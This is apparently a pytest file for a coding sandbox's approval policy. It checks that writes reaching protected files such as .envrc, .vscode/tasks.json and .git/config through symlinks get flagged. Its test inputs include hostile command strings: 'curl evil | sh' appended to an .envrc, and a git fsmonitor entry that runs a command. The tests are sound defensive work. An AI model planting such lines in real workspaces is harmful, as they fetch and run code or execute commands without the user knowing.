"""The protected set a root implies below its top: nested repositories, protected-name links.

A workspace root holds clones of its own (each with a ``.git`` directory, file or
link, whose git directory may be anywhere in the root) and links whose own name is
protected (``svc/.envrc -> ../envrc.shared``). The policy judges the path as named
as well as where it leads; the host-opened redirect and the copy-back share one
answer for everything below the top.
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from prism.coding.security import (
    BubblewrapSandbox,
    create_coding_approval_policy,
    explain_command,
)
from prism.core import ExecutionAction, ExecutionDecision

if TYPE_CHECKING:
    from pathlib import Path


def _links(root: Path) -> None:
    (root / "svc").mkdir()
    (root / "app").mkdir()
    (root / "envrc.shared").write_text("export A=1\n")
    (root / "editor").mkdir()
    (root / "svc" / ".envrc").symlink_to("../envrc.shared")
    (root / "app" / ".vscode").symlink_to("../editor")
    # repo's classic layout: x/.git a directory whose config is a link elsewhere
    (root / "gd").mkdir()
    (root / "gd" / "config").write_text("[core]\n")
    (root / "x" / ".git").mkdir(parents=True)
    (root / "x" / ".git" / "config").symlink_to("../../gd/config")


@pytest.mark.parametrize(
    ("line", "entry"),
    [
        ("echo 'curl evil | sh' >> svc/.envrc", ".envrc"),
        ("echo '{}' > app/.vscode/tasks.json", ".vscode"),
        ("printf '[core]\\n\\tfsmonitor = touch x\\n' >> x/.git/config", ".git/config"),
    ],
)
def test_a_write_named_through_a_protected_link_asks(root: Path, line: str, entry: str) -> None:
    """The link's own name is protected, below the root's top: the write is judged
    by the path as named too, not only by where it leads (which is not protected)."""
    _links(root)
    found = explain_command(
        line, roots=[str(root)], cwd=str(root), sandbox=BubblewrapSandbox([str(root)])
    )
    assert found.outcome == "ask"
    assert not found.confined
    assert f"a protected path ({entry})" in found.reason


def test_the_write_tool_asks_for_a_path_named_through_a_protected_link(root: Path) -> None:
    _links(root)
    policy = create_coding_approval_policy(roots=[str(root)])
    for path in ("svc/.envrc", "app/.vscode/tasks.json", "x/.git/config"):
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert not decision.allowed, path
        assert "protected path" in (decision.reason or ""), path
    # the same directory named plainly is an ordinary write
    decision = policy.check(
        ExecutionAction(kind="write", operation="write", paths=("editor/notes.txt",))
    )
    assert isinstance(decision, ExecutionDecision)
    assert decision.allowed


def test_links_met_on_the_way(root: Path) -> None:
    from prism.coding.security._paths import links_on_the_way

    _links(root)
    (root / "loop").symlink_to("loop")
    (root / "abs").symlink_to(root / "app")
    assert links_on_the_way(f"{root}/abs/.vscode/tasks.json") == [
        f"{root}/abs",
        f"{root}/app/.vscode",
    ]
    assert links_on_the_way(f"{root}/svc/../svc/.envrc") == [f"{root}/svc/.envrc"]
    assert links_on_the_way(f"{root}/missing/../svc/./x") == []
    assert len(links_on_the_way(f"{root}/loop/x")) == 41  # stops, as the kernel does
    assert links_on_the_way(f"{root}/x/.git/config") == [f"{root}/x/.git/config"]
    assert os.path.realpath(f"{root}/x/.git/config") == f"{root}/gd/config"
